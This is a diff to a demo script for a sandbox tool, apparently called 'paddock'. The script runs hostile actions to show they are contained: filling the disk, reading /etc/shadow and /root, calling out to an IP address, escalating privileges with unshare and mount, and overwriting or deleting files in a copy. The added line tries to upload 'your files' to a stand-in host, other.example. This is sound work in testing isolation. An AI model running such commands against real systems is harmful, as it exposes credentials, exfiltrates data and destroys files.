@@ -21,6 +21,9 @@ show "It never ends" run --timeout 1s -- sleep 1000
 show "It fills the disk" run --disk 20M -- sh -c 'dd if=/dev/zero of=/tmp/fill bs=1M 2>&1 | grep -o "No space left.*"'
 show "It reads what is not its own" run -- sh -c 'cat /etc/shadow; ls /root /home/*; ls /proc | grep -c "^[0-9]" | sed "s/$/ processes in sight, its own/"'
 show "It calls home" run --code 'import socket; socket.create_connection(("192.0.2.1", 443), 3)'
+show "It may reach one host, and asks for another" run --allow-net example.com --code 'import urllib.request as u, urllib.error
+try: u.urlopen("http://other.example/upload", b"your files")
+except urllib.error.HTTPError as e: print(e.code, e.read().decode())'
 show "It wants to be root" run -- sh -c 'unshare -Ur id; mount -t tmpfs none /tmp; grep -E "^(CapEff|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status'
 show "It changes your files: in a copy, and you look first" run --workspace "$(dirname "$0")/../examples:copy" --discard -- sh -c 'echo hacked > hello.py; rm -f *.toml; ls'
 printf '\n%sWhat this host can enforce: %s/paddock doctor      Prove it: %s/paddock verify%s\n' "$bold" "$build" "$build" "$off"
